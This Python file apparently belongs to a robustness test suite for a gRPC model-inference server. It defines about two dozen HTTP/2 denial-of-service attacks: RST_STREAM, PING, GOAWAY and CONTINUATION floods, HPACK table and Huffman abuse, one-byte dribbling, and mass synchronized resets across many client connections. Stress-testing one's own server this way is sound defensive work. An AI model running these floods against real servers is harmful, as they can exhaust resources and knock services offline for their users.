"""Attacks by frames of HTTP/2: many, small, or all at one moment."""

from __future__ import annotations

import asyncio
import struct
from collections.abc import Callable

import numpy as np
from attack_client import (
    CONTINUATION,
    DATA,
    END,
    END_HEADERS,
    GOAWAY,
    HEADERS,
    INFER,
    LIVE,
    MOST,
    NO_WINDOWS,
    OPEN_WINDOWS,
    PADDED,
    PING,
    PRIORITY,
    SERVICE,
    SETTINGS,
    STREAM,
    Attack,
    Client,
    block,
    literal,
    packed,
    prefixed,
    reset,
    swarm,
    window,
)
from hpack import Encoder

from deploykit.engines.oip.protobuf import MESSAGES

Late = Callable[[], bool]
MOST_STREAMS = 512


def request(model: str = "m", rows: int = 1, width: int = 4) -> bytes:
    """A ModelInferRequest of float32, with its prefix."""
    message = MESSAGES["ModelInferRequest"](model_name=model)
    message.inputs.add(name="x", datatype="FP32", shape=[rows, width])
    message.raw_input_contents.append(np.ones((rows, width), np.float32).tobytes())
    return prefixed(message.SerializeToString())


def headers(stream: int, path: str = INFER, flags: int = END_HEADERS, **more: str) -> bytes:
    return packed(HEADERS, flags, stream, block(path, **more))


def opened(path: str, count: int = MOST_STREAMS, content: bytes = b"", **more: str) -> bytes:
    """So many streams, each with `content` in a frame that does not end it."""
    return b"".join(
        headers(number, path, **more) + (packed(DATA, 0, number, content) if content else b"")
        for number in range(1, 2 * count, 2)
    )


def called(count: int, content: bytes, path: str = INFER, **more: str) -> bytes:
    """So many whole calls."""
    return b"".join(
        headers(number, path, **more) + packed(DATA, END, number, content)
        for number in range(1, 2 * count, 2)
    )


def storm(
    frames: Callable[[int], bytes], clients: int = 16, settings: bytes = OPEN_WINDOWS
) -> Attack:
    """`frames(number)` again and again, with a rising number."""

    async def one(client: Client, late: Late) -> None:
        number = 1
        while not late() and await client.send(frames(number)):
            number += 2

    async def attack(port: int, seconds: float) -> None:
        await swarm(port, seconds, clients, one, settings=settings)

    return attack


def held(
    content: bytes,
    then: Callable[[Client], object] = lambda _: None,
    *,
    clients: int = 32,
    settings: bytes = NO_WINDOWS,
    wait_s: float = 2.0,
) -> Attack:
    """Open streams on all connections, wait, then do something on all of them at one moment."""

    async def attack(port: int, seconds: float) -> None:
        ready = asyncio.Barrier(clients)

        async def one(client: Client, late: Late) -> None:
            await client.send(content)
            await asyncio.sleep(wait_s)
            await ready.wait()
            then(client)
            while not (late() or client.ended):
                await asyncio.sleep(0.05)

        await swarm(port, seconds, clients, one, settings=settings, again=False)

    return attack


def _twice(one: bytes, other: bytes) -> Callable[[Client], object]:
    return lambda client: client.writer.write(one + other)


async def dribble(port: int, seconds: float) -> None:
    """Frames of 16 KiB in segments of one byte."""

    async def one(client: Client, late: Late) -> None:
        data = headers(1) + packed(DATA, 0, 1, prefixed(bytes(16379)))
        for at in range(len(data)):
            if late() or not await client.send(data[at : at + 1]):
                return
            await asyncio.sleep(0)

    await swarm(port, seconds, 64, one)


async def half_closed(port: int, seconds: float) -> None:
    async def one(client: Client, late: Late) -> None:
        await client.send(called(64, request("wide", 1, 1)))
        client.writer.write_eof()
        while not (late() or client.ended):
            await asyncio.sleep(0.02)

    await swarm(port, seconds, 24, one)


async def cancelled(port: int, seconds: float) -> None:
    """Streams of large answers, cancelled after the first frames."""

    async def one(client: Client, late: Late) -> None:
        for number in range(1, 99, 2):
            if late():
                return
            await client.send(headers(number, STREAM))
            await client.send(packed(DATA, 0, number, request("wide", 1, 1) * 8))
            await asyncio.sleep(0.05)
            await client.send(reset(number))

    await swarm(port, seconds, 24, one)


async def statistics(port: int, seconds: float) -> None:
    """Calls that each take the server long, in 40 bytes; HPACK's table holds their headers."""

    async def one(client: Client, late: Late) -> None:
        encoder = Encoder()
        pairs = [(":method", "POST"), (":scheme", "http"), ("content-type", "application/grpc")]
        pairs.append((":path", SERVICE + "ModelStatistics"))
        pairs.sort(key=lambda pair: pair[0] == "content-type")
        number = 1
        while not late():
            before, calls = client.answered, []
            for _ in range(500):
                calls.append(packed(HEADERS, END_HEADERS, number, encoder.encode(pairs)))
                calls.append(packed(DATA, END, number, prefixed(b"")))
                number += 2
            if not await client.send(b"".join(calls)):
                return
            while client.answered < before + 500 and not (late() or client.ended):
                await client.wait(0.1)

    await swarm(port, seconds, 8, one)


def _huffman(size: int) -> bytes:
    """A literal whose value is Huffman code of 'a' (5 bits): 8 characters in 5 bytes."""
    code = bytes.fromhex("18c6318c63") * (size // 5)  # 00011 * 8
    length, out = len(code) - 127, [0x80 | 127]
    while length > 127:
        out.append(length & 127 | 128)
        length >>= 7
    return b"\0\1x" + bytes([*out, length]) + code


def _table(number: int) -> bytes:
    """Fill the dynamic table, then empty it, in each block."""
    sizes = b"\x20\x3f\xe1\x1f"  # 0, then 4096
    filled = b"".join(b"\x40\2" + struct.pack(">H", 0x6161 + i) + b"\0" for i in range(100))
    return packed(HEADERS, END_HEADERS | END, number, sizes + filled + block(LIVE))


def _reference(number: int) -> bytes:
    """One large entry, to which each further byte of the block refers."""
    entry = b"\x40\1x\x7f\x81\x1e" + b"v" * (0x7F + 0x1E * 128 + 1)
    return packed(HEADERS, END_HEADERS | END, number, block(LIVE) + entry + b"\xbe" * 9000)


def _many_headers(number: int) -> bytes:
    return packed(HEADERS, END_HEADERS | END, number, block(LIVE) + b"\x90" * 16000)


def _reset_by_length(number: int) -> bytes:
    """A streamed request runs; then more DATA than the content-length says reset the stream."""
    content = request("wide", 1, 1)
    length = str(len(content))
    return (
        headers(number, STREAM, content_length=length)
        + packed(DATA, 0, number, content)
        + packed(DATA, 0, number, b"x")
    )


def _toggled() -> bytes:
    """Settings that open and close the windows of all streams."""
    return b"".join(packed(SETTINGS, 0, 0, struct.pack(">HI", 4, size)) for size in (1, 0) * 32)


LISTED: dict[str, Attack] = {
    "cancelled streams of large answers": cancelled,
    "RST_STREAM storm": storm(lambda n: headers(n) + reset(n)),
    "PING storm": storm(lambda _: packed(PING, 0, 0, bytes(8)) * 100),
    "WINDOW_UPDATE storm": storm(lambda _: window(0, 1) * 100, settings=b""),
    "PRIORITY storm": storm(lambda _: packed(PRIORITY, 0, 1, bytes(5)) * 100),
    "trailers storm": storm(
        lambda n: headers(n) + packed(HEADERS, END_HEADERS | END, n, literal(b"a", b"b") * 60)
    ),
    "tables that are filled and emptied": storm(_table),
    "Huffman strings of 10 kB": storm(
        lambda n: packed(HEADERS, END_HEADERS | END, n, block(LIVE) + _huffman(10000))
    ),
    "GOAWAY storm": storm(lambda _: packed(GOAWAY, 0, 0, bytes(8)) * 100),
    "half-closed connections": half_closed,
}
OWN: dict[str, Attack] = {
    "deadlines of 16,000 calls at one moment": held(
        opened(STREAM, 500, grpc_timeout="2500m"), wait_s=0.5
    ),
    "16,000 open calls whose connections are reset at one moment": held(
        opened(STREAM, 500, request()), Client.abort
    ),
    "windows of 16,000 blocked answers opened at one moment": held(
        called(500, request()),
        _twice(packed(SETTINGS, 0, 0, struct.pack(">HI", 4, MOST)), window(0, 1 << 30)),
    ),
    "500 streams of 16 connections with 60 empty messages each": held(
        opened(STREAM, 500, bytes(300)), clients=16, wait_s=0.0, settings=OPEN_WINDOWS
    ),
    "streams with 20,000 empty messages each": held(
        opened(STREAM, 40, bytes(16380)), clients=16, wait_s=0.0, settings=OPEN_WINDOWS
    ),
    "resets that the client provokes while requests run": storm(_reset_by_length, 8),
    "references to one large header": storm(_reference),
    "16,000 headers of one byte": storm(_many_headers),
    "messages in DATA of one byte with 255 of padding": storm(
        lambda n: headers(n) + packed(DATA, PADDED, n, b"\xff\0" + bytes(255)) * 60, 16
    ),
    "frames in segments of one byte": dribble,
    "settings that open and close 500 blocked calls": held(
        called(500, request()), lambda c: c.writer.write(_toggled() * 2), wait_s=1.0
    ),
    "calls of ModelStatistics with indexed headers": statistics,
    "16,000 waiting calls that are reset at one moment": held(
        called(500, request("wide", 1, 1)),
        lambda client: client.writer.write(b"".join(map(reset, range(1, 1000, 2)))),
    ),
    "header blocks left open and continued slowly": storm(
        lambda n: packed(HEADERS, 0, n, block(LIVE)) + packed(CONTINUATION, 0, n, b"\x90") * 120
    ),
}
ATTACKS = {**LISTED, **OWN}
